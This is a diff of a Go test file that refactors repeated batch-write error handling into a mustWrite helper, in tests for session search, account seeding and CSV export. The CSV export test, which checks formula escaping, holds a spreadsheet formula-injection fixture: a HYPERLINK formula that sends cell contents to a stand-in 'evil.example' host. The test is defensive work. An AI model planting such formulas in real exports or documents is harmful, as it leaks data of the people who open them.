@@ -49,6 +49,12 @@ func seedCalls(t *testing.T, st *sqlstore.Store, n int) {
 			Response: qp.Response{ResponseID: fmt.Sprintf("resp-%d", i), Timestamp: ts.Add(time.Millisecond), Status: qp.StatusSuccess,
 				HTTPStatus: 200, FinishReason: "stop", Duration: time.Millisecond, UpstreamAttempts: 1}})
 	}
+	mustWrite(t, st, b)
+}
+
+// mustWrite records b in st, failing the test if it cannot.
+func mustWrite(t *testing.T, st *sqlstore.Store, b qp.Batch) {
+	t.Helper()
 	if err := st.WriteBatch(context.Background(), b); err != nil {
 		t.Fatal(err)
 	}
@@ -118,9 +124,7 @@ func testSessionSearchFoldsEveryLetter(t *testing.T, dbURL string) {
 		b.Sessions = append(b.Sessions, qp.Session{ID: fmt.Sprintf("s-%d", i), ChatID: fmt.Sprintf("chat-%d", i), ParentID: "p", Model: "qwen3-max",
 			FirstUserMessage: first, MessageCount: 1, ConversationKey: fmt.Sprintf("k%d", i), CreatedAt: at, LastAccessed: at, ExpiresAt: at.Add(time.Hour)})
 	}
-	if err := st.WriteBatch(context.Background(), b); err != nil {
-		t.Fatal(err)
-	}
+	mustWrite(t, st, b)
 	for search, want := range map[string]string{"HÉLLO": "s-0", "héllo WÖ": "s-0", "привет": "s-1", "мИр": "s-1", "ärger IM bÜRO": "s-2",
 		"HELLO": "s-3", "Hello W": "s-3"} {
 		w := serve(a.ListSessions, "GET", "/v1/sessions?search="+url.QueryEscape(search))
@@ -173,9 +177,7 @@ func seedAccounts(t *testing.T, st *sqlstore.Store) {
 			FirstUserMessage: "hi", MessageCount: 1, ConversationKey: fmt.Sprintf("k%d", i), CreatedAt: ts, LastAccessed: ts, ExpiresAt: ts.Add(time.Hour),
 			Account: account})
 	}
-	if err := st.WriteBatch(context.Background(), b); err != nil {
-		t.Fatal(err)
-	}
+	mustWrite(t, st, b)
 }
 
 // A page reached by before= gives a next_cursor only when rows follow it:
@@ -245,9 +247,7 @@ func testCSVExportEscapesFormulas(t *testing.T, dbURL string) {
 			Model: `=HYPERLINK("https://evil.example/?"&A1,"x")`, ClientIP: "127.0.0.1", Account: "@SUM(1+1)"},
 		Response: qp.Response{ResponseID: "r-1", Timestamp: at.Add(time.Millisecond), Status: qp.StatusError, HTTPStatus: 502,
 			ErrorType: "\tupstream", ErrorMessage: "-2+3 said \"no\",\nthen\r=1", UpstreamErrors: []string{"\r=2"}, Duration: time.Millisecond, UpstreamAttempts: 1}}}}
-	if err := st.WriteBatch(context.Background(), b); err != nil {
-		t.Fatal(err)
-	}
+	mustWrite(t, st, b)
 	w := serve(a.Export, "GET", "/v1/export?format=csv")
 	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
 	if err != nil || len(rows) != 2 {
